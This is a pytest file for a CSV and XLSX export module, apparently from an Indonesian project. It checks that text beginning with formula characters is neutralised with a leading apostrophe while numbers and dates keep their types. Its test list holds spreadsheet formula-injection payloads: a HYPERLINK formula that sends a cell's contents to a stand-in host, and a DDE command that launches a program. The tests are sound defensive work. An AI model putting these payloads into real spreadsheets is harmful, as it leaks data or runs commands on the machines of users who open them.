"""One escaping function for CSV and XLSX: formulas made inert, numbers and dates kept typed."""

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from ppid.exports import XlsxSheetWriter, csv_lines, spreadsheet_text

HOSTILE = [
    '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")',
    "+SUM(1,1)",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_run_is_prefixed(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Dokumen anggaran", "0812-3456", "Rp 5.000", "", "a=b"])
def test_ordinary_text_is_left_alone(text):
    assert spreadsheet_text(text) == text


def test_csv_escapes_text_and_keeps_numbers_dates_and_blanks():
    text = "".join(csv_lines(["Kolom"], [[HOSTILE[0], -5000, dt.date(2026, 3, 11), None, 1.5]])).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'" + HOSTILE[0], "-5000", "2026-03-11", "", "1.5"]


def test_xlsx_has_no_formula_cells_and_typed_numbers_and_dates():
    output = io.BytesIO()
    writer = XlsxSheetWriter(output, "Register & <uji>", ["Teks", "Angka", "Tanggal", "Kosong", "Ya"])
    for text in HOSTILE:
        writer.append([text, -5000, dt.date(2026, 3, 11), None, True])
    writer.append(["kendali \x01\x0b dibuang", 3, dt.datetime(2026, 3, 11, 10, 0), "", False])
    writer.close()
    sheet = load_workbook(io.BytesIO(output.getvalue())).active
    assert sheet.title == "Register & <uji>"
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [row[0] for row in values[:6]] == ["'" + text for text in HOSTILE]
    assert values[0][1:] == (-5000, dt.datetime(2026, 3, 11), None, True)
    assert values[6] == ("kendali  dibuang", 3, dt.datetime(2026, 3, 11), None, False)
    assert sheet["A1"].font.b
